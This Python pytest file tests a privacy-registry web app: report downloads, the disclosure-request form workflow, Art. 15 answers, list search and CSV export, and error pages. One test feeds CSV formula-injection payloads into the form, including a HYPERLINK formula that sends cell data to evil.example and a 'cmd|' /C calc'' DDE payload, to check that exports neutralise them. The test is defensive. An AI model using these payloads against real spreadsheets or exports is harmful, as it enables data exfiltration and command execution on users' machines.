"""The pages for daily work (issue 22): downloads in the signed-in browser, the legal team's
whole request workflow (every error at once, subjects as refs, the request's own page, an update
prefilled from the newest version, countdowns, the Art. 15 answer), labels instead of keys,
search, filters, pagination and CSV on every list, as-of selectors with the CLI's numbers, the
status page and error pages for browsers."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import datetime, timedelta, timezone
from xml.etree import ElementTree

import openpyxl
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from registry.answers.drift import drift
from registry.cli import app as cli_app
from registry.intake.deadletters import list_dead_letters
from registry.ledger.disclosures import request_history
from registry.reports.csvcell import cell
from registry.web.listing import PAGE_SIZE

from .conftest import all_text
from .helpers import ref
from .test_pages import _client
from .test_web import csrf_of

FORM = {"request_id": "CO-1", "authority": "Amtsgericht München", "authority_country": "DE", "instrument": "court_order",
        "received_at": "2026-11-02T09:30", "outcome": "pending", "notice": "pending"}


@pytest.fixture
def db_url(tmp_path) -> str:  # type: ignore[no-untyped-def]
    return f"sqlite:///{tmp_path / 'workflow.db'}"


def _text(page: str) -> str:
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", page)))


def _cli(db_url: str, *args: str) -> object:
    result = CliRunner().invoke(cli_app, ["--db", db_url, "--json", *args])
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


# --- downloads --------------------------------------------------------------------------------

def test_every_report_on_the_pages_downloads_with_the_session(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "auditor")
    ropa = client.get("/ropa").text
    links = re.findall(r'href="(/ropa/download\?format=(\w+))"', ropa)
    assert {fmt for _, fmt in links} == {"md", "csv", "xlsx", "json", "html"}
    for href, fmt in links:
        answer = client.get(href.replace("&amp;", "&"))
        assert answer.status_code == 200, (fmt, answer.text[:200])
        assert f'filename="ropa.{fmt}"' in answer.headers["content-disposition"]
    book = openpyxl.load_workbook(io.BytesIO(client.get("/ropa/download?format=xlsx").content))
    sheet = book["Record of processing"]
    header = [c.value for c in sheet[1]]
    column = header.index("Events observed")
    events = [row[column].value for row in sheet.iter_rows(min_row=2)]
    expected = {a["name"]: a["evidence"]["events"] for a in client.get("/ropa/download?format=json").json()["activities"]}
    assert all(isinstance(v, int) for v in events) and sum(events) == sum(expected.values()) > 0
    svg_href = re.search(r'href="(/datamap/download\?[^"]*format=svg)"', client.get("/datamap").text)
    assert svg_href
    svg = client.get(svg_href.group(1).replace("&amp;", "&"))
    assert svg.status_code == 200 and svg.headers["content-type"].startswith("image/svg+xml")
    ElementTree.fromstring(svg.content)  # parses
    report = client.get("/disclosures/report?year=2026").text
    for href in re.findall(r'href="(/disclosures/report/download\?[^"]+)"', report):
        answer = client.get(href.replace("&amp;", "&"))
        assert answer.status_code == 200 and "attachment" in answer.headers["content-disposition"]
        if href.endswith("json"):
            assert answer.json() == _cli(str(declared.url), "disclosures", "report", "--year", "2026")
    assert "format=md" in report and "format=json" in report
    # the API stays bearer-only: the session cookie does not open it
    assert client.get("/api/ropa?format=xlsx").status_code == 401
    # and the downloads need the session
    assert TestClient(client.app).get("/ropa/download?format=md", follow_redirects=False).status_code == 303


# --- the disclosure workflow ------------------------------------------------------------------

def test_an_empty_form_names_every_missing_field_at_once(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "legal")
    csrf = csrf_of(client, "/disclosures/new")
    empty = client.post("/disclosures/new", data={"csrf_token": csrf})
    assert empty.status_code == 422
    summary = _text(re.search(r'id="form-error">(.*?)</div>', empty.text, re.S).group(1))  # type: ignore[union-attr]
    for label in ("Request reference", "Requesting authority", "Authority's country", "Received on", "Legal process", "Outcome",
                  "Notice to the people concerned"):
        assert label in summary, label
    assert "7 fields need attention" in summary and "Data disclosed" not in summary and "Notice due by" not in summary
    # "Pending" alone asks for what is missing, never for the notice date
    pending = client.post("/disclosures/new", data={"csrf_token": csrf, "outcome": "pending"})
    assert "Notice due by" not in _text(pending.text.split('id="form-error">')[1].split("</div>")[0])
    # conditional fields are required only when they apply, and named together
    produced = client.post("/disclosures/new", data={**FORM, "outcome": "produced", "notice": "delayed", "csrf_token": csrf})
    words = _text(produced.text.split('id="form-error">')[1].split("</div>")[0])
    assert "Data disclosed" in words and "Notice due by" in words and "2 fields need attention" in words
    # dates in the wrong order: both named
    backwards = client.post("/disclosures/new", data={**FORM, "outcome": "produced", "data_categories": "user.name",
                                                      "disclosed_at": "2026-11-01T10:00", "notice": "delayed",
                                                      "notice_due": "2026-10-01", "csrf_token": csrf})
    words = _text(backwards.text.split('id="form-error">')[1].split("</div>")[0])
    assert backwards.status_code == 422 and "Disclosed on — is before the request was received" in words
    assert "Notice due by — is before the request was received" in words
    with declared.connect() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM ledger_entry WHERE request_id = 'CO-1'").scalar_one() == 0
    # fields that do not apply are hidden until they do (the form's script reads data-when)
    form = client.get("/disclosures/new").text
    assert re.search(r'id="f-data_categories" data-when="outcome:produced,partially_produced"', form)
    assert 'data-when="notice:delayed"' in form


def test_a_request_with_subjects_lands_on_its_page_and_updates_from_its_newest_version(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "legal")
    csrf = csrf_of(client, "/disclosures/new")
    due = (datetime.now(timezone.utc).date() + timedelta(days=12)).isoformat()
    logged = client.post("/disclosures/new", data={**FORM, "notice": "delayed", "notice_due": due,
                                                   "subject_ids": "customer-42\ncustomer-7", "csrf_token": csrf},
                         follow_redirects=False)
    assert logged.status_code == 303 and logged.headers["location"] == "/disclosures/requests/CO-1?logged=1"
    page = client.get(logged.headers["location"]).text
    assert "Logged CO-1 version 1." in page and "12 days left" in _text(page)
    (version,) = request_history(declared, "CO-1")
    assert version.data["subject_refs"] == [ref("customer-42"), ref("customer-7")]
    assert "customer-42" not in all_text(declared) and "customer-7" not in all_text(declared)
    assert f'href="/subject?ref={ref("customer-42")}"' in page  # the request links to its subjects
    # the list counts down too
    listed = _text(client.get("/disclosures").text)
    assert re.search(r"CO-1 .*12 days left", listed)
    # update: the form starts from the newest version, the subjects kept as refs
    form = client.get("/disclosures/new?update=CO-1").text
    assert 'value="Amtsgericht München"' in form and 'value="2026-11-02T09:30"' in form and f'value="{due}"' in form
    assert re.search(r'value="court_order" checked', form) and re.search(r'name="notice" value="delayed" checked', form)
    assert form.count('name=subject_refs value="') == 2 and "customer-42" not in form
    kept = re.findall(r'name=subject_refs value="([0-9a-f]{64})"', form)
    second = client.post("/disclosures/new", data={**FORM, "update_of": "CO-1", "outcome": "produced", "data_categories": "user.name",
                                                   "disclosed_at": "2026-11-03T12:00", "notice": "delayed", "notice_due": due,
                                                   "subject_refs": kept, "csrf_token": csrf})
    assert "Logged CO-1 version 2." in second.text and "Pending → Produced" in second.text
    assert request_history(declared, "CO-1")[-1].data["subject_refs"] == [ref("customer-42"), ref("customer-7")]
    # the subject's answer links to the request, whose page links back
    answer = client.get(f"/subject?ref={ref('customer-7')}").text
    assert 'href="/disclosures/requests/CO-1"' in answer and "Produced" in answer
    looked_up = client.post("/subject", data={"subject_id": "customer-42", "csrf_token": csrf}).text
    assert 'href="/disclosures/requests/CO-1"' in looked_up


def test_an_update_through_the_form_keeps_an_emergency_mark_the_command_line_set(declared: sa.Engine, db_url: str,
                                                                                  tmp_path) -> None:  # type: ignore[no-untyped-def]
    """The CLI may mark any instrument as an emergency; the form offers the mark only for EU
    production orders, and an update through it dropped the mark (review finding, issue 25)."""
    snapshot = {**FORM, "request_id": "EM-1", "instrument": "subpoena", "emergency": True, "authority_country": "US",
                "received_at": "2026-11-02T09:30:00Z", "subject_count": 1}
    (tmp_path / "em.json").write_text(json.dumps(snapshot))
    _cli(db_url, "disclosures", "log", str(tmp_path / "em.json"))
    client = _client(declared, db_url, "legal")
    csrf = csrf_of(client, "/disclosures/new")
    form = {**FORM, "request_id": "EM-1", "instrument": "subpoena", "authority_country": "US", "update_of": "EM-1",
            "csrf_token": csrf}
    kept = client.post("/disclosures/new", data={**form, "outcome": "rejected"})
    assert "Logged EM-1 version 2." in kept.text
    assert request_history(declared, "EM-1")[-1].data.get("emergency") is True
    # the mark belongs to EM-1: not lent to another request through update_of, nor to a new one
    other = client.post("/disclosures/new", data={**form, "request_id": "B-1", "outcome": "rejected"})
    assert other.status_code == 422 and "is not the request being updated (EM-1)" in other.text
    fresh = client.post("/disclosures/new", data={**form, "request_id": "NEW-1", "update_of": "", "outcome": "rejected"})
    assert "Logged NEW-1 version 1." in fresh.text and "emergency" not in request_history(declared, "NEW-1")[-1].data
    # the plain "Log a request" form logging EM-1 again keeps it too
    relogged = client.post("/disclosures/new", data={**form, "update_of": "", "outcome": "pending"})
    assert "Logged EM-1 version 3." in relogged.text and request_history(declared, "EM-1")[-1].data.get("emergency") is True
    # a change of instrument is a new context: the mark is not carried into it
    changed = client.post("/disclosures/new", data={**form, "instrument": "court_order", "outcome": "rejected"})
    assert "Logged EM-1 version 4." in changed.text
    assert "emergency" not in request_history(declared, "EM-1")[-1].data


def test_a_raw_identifier_typed_into_the_form_is_not_sent_back(declared: sa.Engine, db_url: str) -> None:
    """Review finding (issue 22): an e-mail address typed into "Reviewed by" was refused, and
    echoed back in the form the 422 page showed."""
    client = _client(declared, db_url, "legal")
    csrf = csrf_of(client, "/disclosures/new")
    for typed in ("erin@example.com", "erin@exam\u200bple.com"):
        page = client.post("/disclosures/new", data={**FORM, "reviewed_by": f"by {typed}", "csrf_token": csrf})
        assert page.status_code == 422 and 'value="Amtsgericht München"' in page.text  # the rest is kept
        assert "erin" not in page.text and "example" not in page.text and "held a raw identifier" in page.text
    # ticked categories are a list; the ledger's message would quote the value
    for category in ("erin@example.com", "+44 20 7946 0958", "10.0.0.1"):
        page = client.post("/disclosures/new", data={**FORM, "outcome": "produced", "disclosed_at": "2026-11-03T12:00",
                                                     "data_categories": ["user.name", category], "csrf_token": csrf})
        assert page.status_code == 422 and "user.name" in page.text
        assert not any(part in page.text for part in ("erin", "7946", "10.0.0.1")), category
    assert request_history(declared, "CO-1") == []


def test_the_art15_answer_prints_and_downloads_without_gagged_requests(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "legal")
    csrf = csrf_of(client, "/disclosures/new")
    due = (datetime.now(timezone.utc).date() + timedelta(days=30)).isoformat()
    for request_id, notice in (("GAG-1", "prohibited"), ("TOLD-1", "given"), ("LATER-1", "delayed")):
        client.post("/disclosures/new", data={**FORM, "request_id": request_id, "notice": notice, "notice_due": due,
                                              "subject_ids": "customer-42", "csrf_token": csrf})
    lookup = client.post("/subject", data={"subject_id": "customer-42", "csrf_token": csrf}).text
    assert all(f"/disclosures/requests/{r}" in lookup for r in ("GAG-1", "TOLD-1", "LATER-1"))
    printable = client.get(f"/subject/answer?ref={ref('customer-42')}")
    body = printable.text.split('id="art15-disclosures"')[1] if 'id="art15-disclosures"' in printable.text else ""
    assert printable.status_code == 200 and "Amtsgericht München" in body and "Court order" in body
    withheld = re.search(r'id="withheld">Not in this answer: ([^<]+) — ', printable.text)
    assert withheld and {"GAG-1", "LATER-1"} <= set(withheld.group(1).split(", ")) and "TOLD-1" not in withheld.group(1)
    assert "<nav" not in printable.text
    rows = list(csv.DictReader(io.StringIO(client.get(f"/subject/answer?ref={ref('customer-42')}&format=csv").text)))
    disclosed = [r["request_id"] for r in rows if r["section"] == "disclosure"]
    assert "TOLD-1" in disclosed and "GAG-1" not in disclosed and "LATER-1" not in disclosed
    transfers = [r for r in rows if r["section"] == "recipient"]
    expected = _cli(str(declared.url), "subject", ref("customer-42"))
    assert sum(int(r["events"]) for r in transfers) == sum(t["events"] for t in expected["transfers"])  # type: ignore[index]


def test_subject_lookup_without_the_subject_key_is_a_page(declared: sa.Engine, db_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    client = _client(declared, db_url, "auditor")
    csrf = csrf_of(client)
    monkeypatch.delenv("REGISTRY_SUBJECT_KEY")
    answer = client.post("/subject", data={"subject_id": "customer-1", "csrf_token": csrf})
    assert answer.status_code == 503 and answer.headers["content-type"].startswith("text/html")
    assert "REGISTRY_SUBJECT_KEY" in answer.text and "<nav" in answer.text
    client.cookies.clear()
    legal = _client(declared, db_url, "legal")
    form = legal.post("/disclosures/new", data={**FORM, "subject_ids": "customer-1", "csrf_token": csrf_of(legal, "/disclosures/new")})
    summary = _text(form.text.split('id="form-error">')[1].split("</div>")[0])
    assert form.status_code == 422 and "People concerned (their ids) — REGISTRY_SUBJECT_KEY is not set" in summary
    assert "customer-1" not in form.text  # never echoed


def test_the_number_of_people_takes_only_a_number_the_ledger_can_store(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "legal")
    csrf = csrf_of(client, "/disclosures/new")
    # "²" passes str.isdigit() but not int(); 4,400 digits pass the pattern of old but not int()'s
    # digit limit; 26 nines are an int orjson cannot write (64-bit): each was a 500
    for i, count in enumerate(("²", "9" * 4400, "9" * 26, "9223372036854775808", "-1", "3.5", "١٢")):
        refused = client.post("/disclosures/new", data={**FORM, "request_id": f"N-{i}", "subject_count": count, "csrf_token": csrf})
        assert refused.status_code == 422, count[:12]
        summary = _text(refused.text.split('id="form-error">')[1].split("</div>")[0])
        assert "Number of people concerned — is a whole number from 0 to 9223372036854775807" in summary, count[:12]
    # shown with the others, not alone
    both = client.post("/disclosures/new", data={**FORM, "request_id": "", "subject_count": "²", "csrf_token": csrf})
    words = _text(both.text.split('id="form-error">')[1].split("</div>")[0])
    assert "Request reference" in words and "Number of people concerned" in words and "2 fields need attention" in words
    with declared.connect() as conn:
        assert conn.exec_driver_sql("SELECT COUNT(*) FROM ledger_entry WHERE request_id LIKE 'N-%'").scalar_one() == 0
    largest = client.post("/disclosures/new", data={**FORM, "request_id": "N-MAX", "subject_count": "9223372036854775807",
                                                    "csrf_token": csrf}, follow_redirects=False)
    assert largest.status_code == 303
    assert request_history(declared, "N-MAX")[-1].data["subject_count"] == 2**63 - 1


def test_csv_downloads_neutralise_formulas_typed_into_the_form(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "legal")
    csrf = csrf_of(client, "/disclosures/new")
    logged = {}
    for start in ("=", "+", "-", "@"):
        request_id, authority = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")', f"{start}SUM(1+1)*cmd|' /C calc'!A0"
        answer = client.post("/disclosures/new", data={**FORM, "request_id": request_id, "authority": authority, "notice": "given",
                                                       "subject_ids": "customer-77", "csrf_token": csrf},
                             follow_redirects=False)
        assert answer.status_code == 303, start
        logged[request_id] = authority
    listed = list(csv.DictReader(io.StringIO(client.get("/disclosures?format=csv&q=hyperlink").text)))
    assert sorted(r["request_id"] for r in listed) == sorted("'" + r for r in logged)
    assert sorted(r["authority"] for r in listed) == sorted("'" + a for a in logged.values())
    answer15 = list(csv.DictReader(io.StringIO(client.get(f"/subject/answer?ref={ref('customer-77')}&format=csv").text)))
    told = [r for r in answer15 if r["section"] == "disclosure"]
    assert sorted(r["request_id"] for r in told) == sorted("'" + r for r in logged)
    assert sorted(r["authority"] for r in told) == sorted("'" + a for a in logged.values())
    # the page itself shows what was typed; only the spreadsheet cell is neutralised
    page = html.unescape(client.get("/disclosures?q=hyperlink").text)
    assert all(r in page and "'" + r not in page for r in logged)
    # a form strips leading tabs and CRs, so the shared helper is checked for them directly
    assert [cell(v) for v in ("\tcmd", "\rcmd", "-1", "a=b", "", 7, None)] == ["'\tcmd", "'\rcmd", "'-1", "a=b", "", 7, None]


# --- words, lists, as-of --------------------------------------------------------------------

def test_pages_show_names_with_the_key_on_hover(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "auditor")
    page = client.get("/drift").text
    details = re.findall(r'<p class="detail">(.*?)</p>', page, re.S)
    keyed = [r for r in drift(declared) if r.category and r.category in r.detail]
    assert keyed and details
    for row in keyed:  # "no activity with sift for essential.fraud_detection covers user.location.precise", in words
        assert any(f'<abbr title="{row.category}">' in d for d in details), row.detail
        assert not any(row.category in _text(d) for d in details), row.category
    ropa = client.get("/ropa").text
    undeclared = ropa.split("Observed but not declared")[1]
    assert "<abbr title=" in undeclared and not re.search(r"<td>[a-z]+\.[a-z_.]+</td>", undeclared)
    assert re.search(r'<abbr title="[a-z0-9-]+">[^<]+</abbr> → [A-Z]{2}:', ropa)  # transfers name the recipient
    assert not re.search(r"\b[a-z0-9]+-[a-z0-9-]+ → [A-Z]{2}:", _text(ropa))  # never "aws-hosting → US"
    assert not re.search(r"\b\d{4,} events\b", _text(ropa))  # thousands separated
    recipients = client.get("/recipients?category=user").text
    via = re.findall(r'<td><a href="/recipients/([^"]+)" title="[^"]+">([^<]+)</a></td><td>(?:<a href="/recipients/[^"]+" title="([^"]+)">([^<]+)</a>|—)',
                     recipients)
    assert any(row[2] and row[2] != row[3] for row in via)  # "Via processor" shows the processor's name


def test_every_list_searches_pages_and_exports(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "legal")
    everyone = client.get("/recipients?category=user").text
    searched = client.get("/recipients?category=user&q=analytics").text
    names = re.findall(r'<td><a href="/recipients/[^"]+" title="[^"]+">([^<]+)</a></td>', searched)
    assert names and all("analytics" in n.lower() or "google" in n.lower() for n in names)
    assert len(names) < len(re.findall(r'<td><a href="/recipients/[^"]+" title="[^"]+">', everyone))
    exported = list(csv.DictReader(io.StringIO(client.get("/recipients?category=user&format=csv").text)))
    cli_rows = _cli(str(declared.url), "recipients", "--category", "user", "--include-subprocessors")
    assert sorted((r["recipient"], int(r["events"])) for r in exported) == sorted((r["recipient"], r["events"]) for r in cli_rows)  # type: ignore[union-attr, index]
    # dead letters: pages of PAGE_SIZE, the CSV holds all
    letters = list_dead_letters(declared)
    first = client.get("/dead-letters").text
    shown = len(re.findall(r'<tr><td class="num">', first))
    assert shown == min(PAGE_SIZE, len(letters))
    rows = list(csv.DictReader(io.StringIO(client.get("/dead-letters?format=csv").text)))
    assert len(rows) == len(letters) and {r["reason"] for r in rows} == {d.reason for d in letters}
    reason = letters[0].reason
    only = client.get(f"/dead-letters?q={reason}&format=csv").text
    assert len(list(csv.DictReader(io.StringIO(only)))) == sum(1 for d in letters if reason in (d.reason + d.detail + d.origin()))
    # drift: filter, search, CSV with the CLI's rows
    findings = _cli(str(declared.url), "drift")
    exported_drift = list(csv.DictReader(io.StringIO(client.get("/drift?format=csv").text)))
    assert [(r["kind"], r["recipient"], int(r["events"])) for r in exported_drift] == [
        (f["kind"], f["recipient"], f["events"]) for f in findings]  # type: ignore[union-attr, index]
    searched_drift = client.get("/drift?q=facebook").text
    assert "facebook-pixel" in searched_drift and re.search(r'<p id="summary">(\d+) finding', searched_drift).group(1) == str(  # type: ignore[union-attr]
        sum(1 for f in findings if "facebook" in f["recipient"] or "facebook" in f["detail"]))  # type: ignore[union-attr, index]
    # requests: filter by outcome, search, CSV
    produced = list(csv.DictReader(io.StringIO(client.get("/disclosures?outcome=produced&format=csv").text)))
    api = [r for r in _cli(str(declared.url), "disclosures", "list") if r["outcome"] == "produced"]  # type: ignore[union-attr, index]
    assert sorted(r["request_id"] for r in produced) == sorted(r["request_id"] for r in api) and produced
    assert "1 of" not in client.get("/disclosures?q=no-such-thing").text and "matches these filters" in client.get(
        "/disclosures?q=no-such-thing").text


def test_as_of_and_window_selectors_match_the_cli(declared: sa.Engine, db_url: str, manifest) -> None:  # type: ignore[no-untyped-def]
    from registry.model.declarations import declare

    declare(declared, manifest, datetime(2025, 1, 1, tzinfo=timezone.utc))  # in force over the events' months too
    client = _client(declared, db_url, "auditor")
    url = str(declared.url)
    events = sorted(r.first_seen for r in drift(declared) if r.first_seen)
    middle = events[len(events) // 2][:10]
    for params, args in ((f"as_of={middle}", ["--as-of", middle]), (f"since={middle}", ["--since", middle]),
                         (f"until={middle}", ["--until", middle])):
        expected = _cli(url, "recipients", "--category", "user", "--include-subprocessors", *args)
        rows = list(csv.DictReader(io.StringIO(client.get(f"/recipients?category=user&{params}&format=csv").text)))
        assert sorted((r["recipient"], int(r["events"])) for r in rows) == sorted(
            (r["recipient"], r["events"]) for r in expected), params  # type: ignore[union-attr, index]
        findings = _cli(url, "drift", *args)
        page = client.get(f"/drift?{params}").text
        assert f'<p id="summary">{len(findings)} finding' in page, params  # type: ignore[arg-type]
        for kind in {f["kind"] for f in findings}:  # type: ignore[union-attr, index]
            n = sum(1 for f in findings if f["kind"] == kind)  # type: ignore[union-attr, index]
            assert re.search(rf'<section id="{kind}">\s*<h2>[^<]+<span class="badge warn">{n}</span>', page), (params, kind)
    ropa = _cli(url, "ropa", "--format", "json", "--as-of", middle)
    page = client.get(f"/ropa?as_of={middle}").text
    for activity in ropa["activities"]:  # type: ignore[index]
        assert f"{activity['evidence']['events']:,} events" in page
    assert "as of" in page and f"/ropa/download?as_of={middle}&amp;format=xlsx" in page
    filtered = client.get("/datamap?recipient=stripe").text
    assert "Stripe" in filtered and filtered.count("<g id=\"node") < client.get("/datamap").text.count("<g id=\"node")
    backwards = client.get("/recipients?category=user&since=2026-05-01&until=2026-04-01")
    assert backwards.status_code == 422 and backwards.headers["content-type"].startswith("text/html")
    assert re.search(r'<p class="error" role="alert">Until: must be after From</p>', backwards.text)
    unknown = client.get("/recipients?category=user.no-such-kind")
    assert unknown.status_code == 422 and '<p class="error" role="alert">' in unknown.text
    assert client.get("/recipients?category=user").status_code == 200


# --- status and errors ----------------------------------------------------------------------

def test_status_and_error_pages_for_browsers_json_for_the_api(declared: sa.Engine, db_url: str) -> None:
    client = _client(declared, db_url, "auditor")
    status = client.get("/status")
    assert status.status_code == 200 and "Subject key" in status.text and "Disclosure ledger" in status.text
    missing = client.get("/no/such/page")
    assert missing.status_code == 404 and missing.headers["content-type"].startswith("text/html")
    assert "There is no page at this address." in missing.text and "<nav" in missing.text
    api = client.get("/api/no-such-thing")
    assert api.status_code == 404 and api.headers["content-type"] == "application/json"
    wrong = client.get("/disclosures/report?year=abc")
    assert wrong.status_code == 422 and wrong.headers["content-type"].startswith("text/html")
    # a year or half the downloads refuse is refused on the page too, never swapped for another period
    for query in (f"year={10**30}", "year=1969", "year=9999", f"year=2026&half={10**30}", "year=2026&half=3", "year=²"):
        refused = client.get(f"/disclosures/report?{query}")
        assert refused.status_code == 422 and refused.headers["content-type"].startswith("text/html"), query
        assert "Transparency report" not in refused.text and "<nav" in refused.text, query
        problem = "Period: is 1 (January–June) or 2 (July–December)." if "half" in query else "Year: is a year from 1970 to 9998."
        assert problem in html.unescape(refused.text), query
        assert client.get(f"/disclosures/report/download?{query}").status_code == 422, query
    whole = client.get("/disclosures/report?year=2026&half=")  # the form's "Whole year"
    assert whole.status_code == 200 and "Transparency report 2026" in html.unescape(whole.text)
    half = client.get("/disclosures/report?year=2026&half=1")
    assert half.status_code == 200 and "Transparency report 2026-H1" in half.text
    assert client.get("/api/disclosures/report?year=abc", headers={"Authorization": "Bearer x"}).status_code in (401, 422)
    signed_out = TestClient(client.app).get("/nowhere")
    assert signed_out.status_code == 404 and "Sign in" in signed_out.text
    # an unsigned ledger is not shown as green
    dashboard = client.get("/").text
    card = re.search(r'<a class="card ([a-z]*)" id="ledger-card"[^>]*><b>([^<]+)</b>', dashboard)
    assert card and card.group(1) != "good" and card.group(2) == "not signed"
